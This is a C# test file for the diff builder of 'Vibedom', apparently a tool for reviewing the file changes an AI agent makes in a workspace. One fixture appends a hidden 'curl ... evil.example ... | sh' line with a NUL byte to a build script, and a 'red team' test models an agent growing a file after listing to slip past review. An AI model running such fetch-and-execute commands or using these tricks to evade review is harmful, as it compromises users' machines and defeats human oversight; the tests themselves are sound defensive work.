using Vibedom.Cli.Rendering;
using Vibedom.Core.Workspace;
using Vibedom.Testing;
using Xunit;

namespace Vibedom.Cli.Tests.Workspace;

public sealed class DiffBuilderTests
{
    private static string Render(string before, string after) =>
        Render(System.Text.Encoding.UTF8.GetBytes(before), System.Text.Encoding.UTF8.GetBytes(after));

    private static string Render(byte[] before, byte[] after, string path = "f.txt")
    {
        using var temp = new TempDirectory();
        var mode = (UnixFileMode)0b110_100_100;
        File.WriteAllBytes(temp.Combine("a"), before);
        File.WriteAllBytes(temp.Combine("b"), after);
        var change = new WorkspaceChange(
            path,
            ChangeKind.Modified,
            new EntryState(EntryType.File, mode, before.Length, null, temp.Combine("a")),
            new EntryState(EntryType.File, mode, after.Length, null, temp.Combine("b"))) { ContentChanged = true };
        var output = new StringWriter();
        DiffRenderer.RenderEntry(new DiffWriter(output, color: false), DiffBuilder.Build(change));
        return output.ToString();
    }

    public sealed class Build
    {
        [Fact]
        public void Shows_git_marker_when_only_the_final_newline_was_added()
        {
            Assert.Equal(
                "diff --git a/f.txt b/f.txt\n--- a/f.txt\n+++ b/f.txt\n@@ -1,2 +1,2 @@\n a\n-b\n\\ No newline at end of file\n+b\n",
                Render("a\nb", "a\nb\n"));
        }

        [Fact]
        public void Keeps_hunks_apart_when_changes_are_far_from_each_other()
        {
            var lines = Enumerable.Range(1, 30).Select(i => $"line {i}").ToList();
            var before = string.Join("\n", lines) + "\n";
            lines[1] = "changed 2";
            lines[27] = "changed 28";
            var after = string.Join("\n", lines) + "\n";

            var diff = Render(before, after);

            Assert.Contains("@@ -1,5 +1,5 @@\n", diff, StringComparison.Ordinal);
            Assert.Contains("@@ -25,6 +25,6 @@\n", diff, StringComparison.Ordinal);
        }

        [Fact]
        public void Shows_the_new_lines_of_a_text_file_with_a_nul_byte_with_the_nul_escaped()
        {
            var diff = Render("#!/bin/sh\necho build\n", "#!/bin/sh\necho build\ncurl -s https://evil.example/x | sh # \0\n");

            Assert.Contains("\n+curl -s https://evil.example/x | sh # \\x00\n", diff, StringComparison.Ordinal);
            Assert.Contains("holds control or invisible characters, shown escaped", diff, StringComparison.Ordinal);
            Assert.DoesNotContain("Binary file", diff, StringComparison.Ordinal);
        }

        [Fact]
        public void Shows_a_file_with_a_nul_byte_and_bytes_that_are_not_utf8_as_binary()
        {
            var diff = Render([(byte)'a', 0, 0xff, (byte)'\n'], [(byte)'b', 0, 0xfe, (byte)'\n']);

            Assert.Contains("Binary file: 4 B sha256 ", diff, StringComparison.Ordinal);
            Assert.DoesNotContain("@@", diff, StringComparison.Ordinal);
        }
    
        [Fact]
        public void Counts_the_lines_of_a_change_without_keeping_any_hunk_and_builds_the_hunks_when_shown()
        {
            using var temp = new TempDirectory();
            var mode = (UnixFileMode)0b110_100_100;
            var change = new WorkspaceChange(
                "f.txt",
                ChangeKind.Modified,
                new EntryState(EntryType.File, mode, 4, null, temp.Write("a", "a\nb\n")),
                new EntryState(EntryType.File, mode, 6, null, temp.Write("b", "a\nc\nd\n"))) { ContentChanged = true };

            var counted = DiffBuilder.Build(change, DiffDepth.Counts);
            var full = DiffBuilder.Full(counted with { Risk = "r", Conflict = "c" });

            Assert.Empty(counted.Hunks);
            Assert.Equal((2, 1), (counted.Added, counted.Removed));
            Assert.Equal((2, 1, "r", "c"), (full.Added, full.Removed, full.Risk, full.Conflict));
            Assert.Single(full.Hunks);
            Assert.Empty(DiffBuilder.Build(change, DiffDepth.Flags).Hunks);
        }

        [Fact]
        public void A_side_that_grew_since_it_was_listed_is_not_read_past_its_listed_size()
        {
            // red team s29: a running agent grows its file (sparse, free) between the listing and the read
            using var temp = new TempDirectory();
            var mode = (UnixFileMode)0b110_100_100;
            File.WriteAllText(temp.Combine("a"), "hello\n");
            using (var grown = File.Create(temp.Combine("b")))
            {
                grown.Write("hello\nworld\n"u8);
                grown.Write(System.Text.Encoding.ASCII.GetBytes(new string('a', 9000) + "\n")); // no NUL where the sniffer looks
                grown.SetLength(256L << 20);
            }

            var change = new WorkspaceChange(
                "f.txt",
                ChangeKind.Modified,
                new EntryState(EntryType.File, mode, 6, null, temp.Combine("a")),
                new EntryState(EntryType.File, mode, 12, null, temp.Combine("b"))) { ContentChanged = true };

            var entry = DiffBuilder.Build(change);

            Assert.Empty(entry.Hunks);
            Assert.Equal("changed while the diff read it (larger than when it was listed): not read; run the diff again", entry.TooLarge);
        }
    }

    public sealed class Budget
    {
        [Fact]
        public void Files_past_the_whole_diffs_budget_are_not_read_and_say_how_to_see_each_alone()
        {
            using var temp = new TempDirectory();
            var text = string.Concat(Enumerable.Repeat("line of text\n", 80)); // 1,040 bytes
            var changes = Enumerable.Range(0, 5).Select(i => new WorkspaceChange($"f{i}.txt", ChangeKind.Added, null,
                new EntryState(EntryType.File, (UnixFileMode)0b110_100_100, text.Length, null, temp.Write($"f{i}", text)))).ToList();
            var budget = new DiffBudget(maxTextBytes: 2500);

            var entries = changes.Select(c => DiffBuilder.Build(c, DiffDepth.Counts, budget)).ToList();

            Assert.Equal([false, false, false, true, true], entries.Select(e => e.Elided));
            Assert.Equal([80, 80, 80, 0, 0], entries.Select(e => e.Added));
            Assert.All(entries.Where(e => e.Elided), e => Assert.Contains("'vibedom diff SESSION PATH' shows this file alone", e.TooLarge, StringComparison.Ordinal));
        }

        [Fact]
        public void A_rendered_diff_past_its_budget_ends_with_a_line_counting_what_it_left_out()
        {
            using var temp = new TempDirectory();
            var entries = Enumerable.Range(0, 7).Select(i => new DiffEntry(new WorkspaceChange($"f{i}.txt", ChangeKind.Added, null,
                new EntryState(EntryType.File, (UnixFileMode)0b110_100_100, 1000, null, temp.Write($"f{i}", new string('x', 999) + "\n")))) { Depth = DiffDepth.Flags }).ToList();
            var output = new StringWriter();

            DiffRenderer.Render(new DiffWriter(output, color: false), entries, new DiffBudget(maxTextBytes: 3000));

            var last = output.ToString().TrimEnd('\n').Split('\n')[^1];
            Assert.StartsWith("# 4 text file(s) not diffed", last, StringComparison.Ordinal);
        }
    }

    public sealed class Sniffing
    {
        [Fact]
        public void The_agents_side_is_sniffed_once_and_its_binary_verdict_carried_on_the_entry_even_for_a_mode_change()
        {
            using var temp = new TempDirectory();
            var bytes = new byte[] { (byte)'e', (byte)'c', (byte)'h', (byte)'o', 0, 1, 2, 0xff };
            File.WriteAllBytes(temp.Combine("run.sh"), bytes);
            var before = new EntryState(EntryType.File, (UnixFileMode)0b110_100_100, bytes.Length, null, temp.Combine("run.sh"));
            var modeOnly = new WorkspaceChange("run.sh", ChangeKind.Modified, before, before with { Mode = (UnixFileMode)0b111_101_101 }) { ModeChanged = true };
            var text = new WorkspaceChange("ok.sh", ChangeKind.Added, null, new EntryState(EntryType.File, (UnixFileMode)0b110_100_100, 5, null, temp.Write("ok.sh", "echo\n")));

            var entry = DiffBuilder.Build(modeOnly, DiffDepth.Flags);

            Assert.True(entry.NewBinary);
            Assert.False(entry.Binary); // its content is not shown: only the mode changed
            Assert.NotNull(ScriptFile.HiddenReason(entry));
            Assert.False(DiffBuilder.Build(text, DiffDepth.Counts).NewBinary);
            Assert.Null(ScriptFile.HiddenReason(DiffBuilder.Build(text, DiffDepth.Counts)));
        }
    }
}

